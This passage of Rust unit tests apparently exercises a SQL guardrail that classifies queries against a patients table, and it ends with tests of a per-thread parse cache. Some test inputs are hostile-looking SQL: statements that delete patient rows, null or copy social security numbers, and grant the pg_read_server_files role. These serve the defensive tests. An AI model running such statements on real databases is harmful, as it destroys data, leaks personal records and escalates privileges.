            assert_eq!(guardrail(&classify(sql)).map(|g| g.0), Some("guard:statistics"), "{sql}");
        }
        let first = |sql: &str| classify(sql).unwrap().remove(0);
        let kinds = |sql: &str| {
            first(sql)
                .requests()
                .into_iter()
                .map(|r| match r {
                    Request::Sql { kind, .. } => kind,
                    other => panic!("{other:?}"),
                })
                .collect::<Vec<_>>()
        };
        // MERGE is judged as each write its clauses make, and as the read of its source; its ON
        // condition plays the part of a WHERE.
        let m = "MERGE INTO patients USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE";
        assert_eq!(guardrail(&classify(m)), None);
        for k in [SqlKind::Delete, SqlKind::Merge, SqlKind::Select] {
            assert!(kinds(m).contains(&k), "{k:?}: {:?}", kinds(m));
        }
        let m = "MERGE INTO scratch USING patients p ON false WHEN NOT MATCHED THEN INSERT VALUES (p.id, p.ssn)";
        assert!(kinds(m).contains(&SqlKind::Insert) && kinds(m).contains(&SqlKind::Select), "{:?}", kinds(m));
        let m = "MERGE INTO patients p USING patients q ON p.id = q.id WHEN MATCHED THEN UPDATE SET ssn = NULL";
        assert!(kinds(m).contains(&SqlKind::Update), "{:?}", kinds(m));
        assert!(first(m).columns.unwrap().contains(&"ssn".to_owned()));
        // An upsert updates too, and sets the columns it names.
        let u = "INSERT INTO patients SELECT * FROM patients ON CONFLICT (id) DO UPDATE SET ssn = NULL";
        assert!(kinds(u).contains(&SqlKind::Update) && kinds(u).contains(&SqlKind::Select), "{:?}", kinds(u));
        let u = "INSERT INTO t (id, ssn) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET ssn = EXCLUDED.ssn";
        assert_eq!(guardrail(&classify(u)), None);
        assert!(kinds(u).contains(&SqlKind::Update) && first(u).columns.unwrap().contains(&"ssn".to_owned()));
        // Reading another table to update or delete is reading.
        assert!(kinds("UPDATE t SET a = p.ssn FROM patients p WHERE p.id = t.id").contains(&SqlKind::Select));
        assert!(kinds("DELETE FROM t USING patients p WHERE p.id = t.id").contains(&SqlKind::Select));
        // A role granted is a role taken.
        let g = "GRANT pg_read_server_files TO airlock_upstream";
        assert_eq!(first(g).kind, SqlKind::Dcl);
        assert_eq!(guardrail(&classify(g)).map(|g| g.0), Some("guard:role"));
        let c = "CREATE ROLE helper IN ROLE pg_read_server_files ROLE airlock_upstream";
        assert_eq!(guardrail(&classify(c)).map(|g| g.0), Some("guard:role"));
    }

    #[tokio::test]
    async fn a_long_text_is_classified_once_and_found_again_on_this_thread() {
        let long = format!("SELECT {} FROM patients", vec!["name"; 600].join(", "));
        assert!(long.len() > CACHE_MAX_SQL);
        classify_long(long.as_bytes()).await;
        let first = classify_cached(&long);
        assert!(Arc::ptr_eq(&first, &classify_cached(&long)), "remembered: the same answer, not a new parse");
        assert_eq!(first.as_ref().as_ref().map(|s| s.len()), Ok(1));
        // Not on another thread: the memo is this thread's.
        let elsewhere = std::thread::scope(|s| s.spawn(|| classify_cached(&long)).join().unwrap());
        assert!(!Arc::ptr_eq(&first, &elsewhere));
        // A text asked for again stays while newer ones come in…
        for i in 0..LONG_ENTRIES - 1 {
            classify_long(format!("{long} WHERE id = {i}").as_bytes()).await;
        }
        assert!(Arc::ptr_eq(&first, &classify_cached(&long)));
        classify_long(format!("{long} WHERE id = 100").as_bytes()).await;
        assert!(Arc::ptr_eq(&first, &classify_cached(&long)));
        // …and the least recently asked give way.
        for i in 0..LONG_ENTRIES {
            classify_long(format!("{long} WHERE id = {}", 200 + i).as_bytes()).await;
        }
        assert!(!Arc::ptr_eq(&first, &classify_cached(&long)));
    }
}
